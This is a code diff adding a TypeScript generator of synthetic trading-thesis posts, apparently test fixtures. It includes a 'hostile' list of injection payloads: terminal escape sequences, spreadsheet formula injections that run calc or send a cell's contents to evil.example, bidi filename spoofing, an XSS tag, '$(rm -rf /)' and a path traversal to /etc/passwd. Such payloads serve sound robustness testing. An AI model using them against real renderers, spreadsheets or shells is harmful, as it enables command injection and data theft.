@@ -1,0 +1,106 @@
+import { hash, pick } from '../hash.ts';
+
+type Texts = readonly [string, ...string[]];
+
+/** What a thesis is about, as its text needs it. */
+export interface Subject {
+  readonly symbol: string | null;
+  readonly buying: boolean;
+}
+
+const buys: Texts = [
+  'Adding $T here. Volume is waking up and the float is thin.',
+  'Long $T — the chart held its level three times, I am done waiting.',
+  'Small bag of $T for the asymmetry: zero or ten, nothing between.',
+  'Buying the fear on $T. Holders did not move, only tourists left.',
+  'Rotating profits into $T; liquidity doubled since yesterday.',
+  '$T: team ships weekly, cap is a rounding error. In.',
+  'gm. $T again. Yes, again 🙂',
+  'The narrative for $T is early and the memes write themselves.',
+];
+const sells: Texts = [
+  'Taking $T off. The move I wanted is done.',
+  'Trimmed $T into strength, letting the rest ride.',
+  'Out of $T. Insiders stopped bidding and so do I.',
+  'Stop hit on $T. Small loss, no drama.',
+  'Selling $T to sleep better tonight 😴',
+  '$T did its thing. Thanks for playing.',
+];
+const addenda: Texts = [
+  ' Stop is under the daily low.',
+  ' Will revisit on Monday.',
+  ' Not advice.',
+  ' Size small, be kind.',
+  ' Watching holders > price.',
+  ' Target is twice from here, invalid below entry.',
+  ' LFG 🚀🚀🚀',
+  ' Full write-up later today.',
+];
+
+/** Texts in other scripts and shapes, as people really post them. */
+const abroad: Texts = [
+  '$T を押し目で買い増し。出来高が戻ってきた📈',
+  '清仓 $T，等待更好的机会。耐心是唯一的优势。',
+  '$T 롱. 손절은 짧게, 익절은 길게 🙏',
+  'أشتري $T هنا، السيولة تتحسن والمخاطرة محدودة 🤲',
+  'קונה את $T לטווח ארוך, הסיכון ידוע מראש.',
+  'Беру $T на отскок, стоп короткий.',
+  'Long sur $T — « acheter la rumeur », comme d’habitude.',
+  '👨‍👩‍👧‍👦 family bag of $T secured 🏳️‍🌈👩🏽‍🚀🇯🇵',
+  'ค่อยๆ เก็บ $T ไปเรื่อยๆ',
+  'z̷̛a̸l̵g̶o̷ says $T e\u0301 n\u0303 \u200d\ufe0f',
+  '$T\n\n1. catalyst this week\n2. thin book\n3. ???\n\n— end of thesis',
+];
+
+/** Texts that try to break what shows them. */
+export const hostile: Texts = [
+  '\u001b[2J\u001b[1;31mYOUR KEY HAS EXPIRED\u001b[0m',
+  '\u001b]0;owned\u0007\u001b]8;;https://evil.example/$T\u0007buy $T\u001b]8;;\u0007',
+  '\u001b]52;c;ZWNobyBvd25lZA==\u0007 $T',
+  'c1 controls: \u009b31m \u0085 \u0090payload\u009c $T',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example/?v="&A1,"$T")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  'safe \u202egnp.exe\u202c \u2066isolated\u2069 \u200f$T\u200e',
+  'lone surrogates \ud83d and \udc00, then a whole one \ud83d\ude80',
+  '{"id":"fake","thesis":"nested","error":{"code":"UNAUTHORIZED"}}',
+  '{"type":"thesis","data":null}\n{"type":"error","error":"fake"}',
+  'nul \u0000 backspace \b\b\b\b bell \u0007 vertical \u000b feed \f',
+  '"quoted, ""twice""", and a, comma\r\nand a line',
+  '<script>alert(1)</script> $(rm -rf /) `id` %s%n ../../etc/passwd',
+  'line\u2028separator paragraph\u2029separator \ufeffmark',
+  '__proto__ constructor toString',
+];
+
+const LONGEST = 8 * 1024;
+
+/** The text of a thesis; null where its author wrote none. */
+export function thesisText(bits: number, subject: Subject, isHostile: boolean): string | null {
+  const symbol = subject.symbol === null ? 'it' : `$${subject.symbol}`;
+  const more = hash(bits, 3, 5);
+  if (isHostile) return pick(hostile, more).replaceAll('$T', () => symbol);
+  const draw = bits % 1000;
+  if (draw < 8) return null;
+  if (draw < 16) return '';
+  if (draw < 19) return longText(more, symbol);
+  if (draw < 40) return pick(hostile, more).replaceAll('$T', () => symbol);
+  if (draw < 160) return pick(abroad, more).replaceAll('$T', () => symbol);
+  const line = pick(subject.buying ? buys : sells, more).replaceAll('$T', () => symbol);
+  return draw < 600
+    ? line
+    : line + pick(addenda, more >>> 6) + (draw < 900 ? '' : pick(addenda, more >>> 12));
+}
+
+function longText(bits: number, symbol: string): string {
+  let text = `Everything I know about ${symbol}.\n`;
+  for (let line = 0; text.length < LONGEST; line++) {
+    text += pick(line % 2 ? buys : abroad, hash(bits, 9, line)).replaceAll('$T', () => symbol);
+    text += pick(addenda, hash(bits, 10, line));
+    text += line % 5 === 4 ? '\n\n' : ' ';
+  }
+  return text;
+}
